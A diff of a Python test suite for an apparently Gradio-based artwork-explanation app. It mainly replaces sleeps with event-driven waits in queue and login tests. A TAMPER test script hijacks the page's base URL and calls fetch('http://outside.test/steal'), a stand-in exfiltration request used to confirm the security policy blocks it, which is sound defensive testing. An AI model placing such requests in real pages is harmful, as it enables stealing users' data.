@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import socket
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from contextlib import closing
 from pathlib import Path
 from typing import Any
 
@@ -192,12 +193,12 @@ class TestQueue:
     def test_a_visitor_who_asks_ten_times_waits_once(self, form: Form) -> None:
         for _ in range(10):
             form.join("hasty", title="Mona Lisa", question="Explain the {title} slowly.")
-        time.sleep(1)
-        form.join("patient", title="Mona Lisa", question="Explain the {title} quickly.")
-        time.sleep(1)
-        form.stop("hasty")
-        seen = form.result("patient")
-        assert "one other explanation comes first" in seen
+        with closing(form.messages("hasty", "heard until this test is over")) as heard:
+            ended = 0
+            while ended < 9:
+                ended += '"process_completed"' in next(heard)
+            form.join("patient", title="Mona Lisa", question="Explain the {title} quickly.")
+            seen = self._waiting_for(form, "patient", lambda: form.stop("hasty"))
         assert "other explanations come first" not in seen
         assert "was judged True" in seen
 
@@ -205,13 +206,17 @@ class TestQueue:
         form.join("slow", title="Mona Lisa", question="Explain the {title} slowly.")
         form.join("leaving", title="Mona Lisa", question="Explain the {title} slowly.")
         assert "one other explanation" in form.result("leaving", "other explanation")
-        time.sleep(1.5)
         form.join("staying", title="Mona Lisa", question="Explain the {title} quickly.")
-        time.sleep(1)
-        form.stop("slow")
-        seen = form.result("staying")
-        assert "other explanations come first" not in seen
-        assert "was judged True" in seen
+        assert "was judged True" in self._waiting_for(form, "staying", lambda: form.stop("slow"))
+
+    def _waiting_for(self, form: Form, visitor: str, stop: Callable[[], object]) -> str:
+        """All messages to a visitor who waits for one explanation, which is then stopped."""
+        messages: list[str] = []
+        for message in form.messages(visitor):
+            messages.append(message)
+            if "one other explanation comes first" in message:
+                stop()
+        return "\n".join(messages)
 
 
 @browser_test
@@ -259,9 +264,10 @@ class TestInTheBrowser:
     def test_the_page_works_inside_a_space(self, browser: Browser, scripted: Served) -> None:
         page = framed(browser, "https://huggingface.co", scripted)
         frame = page.frame_locator("iframe")
+        expect(frame.get_by_role("button", name="Explain", exact=True)).to_be_enabled()
         frame.get_by_label("Question").fill("Explain the Mona Lisa quickly.")
         frame.get_by_role("button", name="Explain", exact=True).click()
-        expect(frame.locator("#status")).to_contain_text("Done.", timeout=20_000)
+        expect(frame.locator("#status")).to_contain_text("Done.")
         page.context.close()
 
     def test_no_other_website_frames_it(self, browser: Browser, scripted: Served) -> None:
@@ -301,7 +307,7 @@ TAMPER = """async () => {
   document.querySelector('base').href = 'http://outside.test/';
   place.querySelector('form').requestSubmit();
   await fetch('http://outside.test/steal').catch(() => {});
-  await new Promise((resolve) => setTimeout(resolve, 500));
+  while (new Set(violations).size < 8) await new Promise((resolve) => setTimeout(resolve, 50));
   return violations;
 }"""
 
@@ -326,7 +332,7 @@ class TestLogin:
         assert Form(stranger).join("anna", title="Mona Lisa").status_code == 200
         assert "was judged True" in Form(stranger).result("anna")
         address = f"gradio_api/file={upload(stranger, 'a.png', b'x')}"
-        end = time.monotonic() + 20
+        end = time.monotonic() + 60
         while stranger.get(address).status_code == 200:
             assert time.monotonic() < end
             time.sleep(0.1)
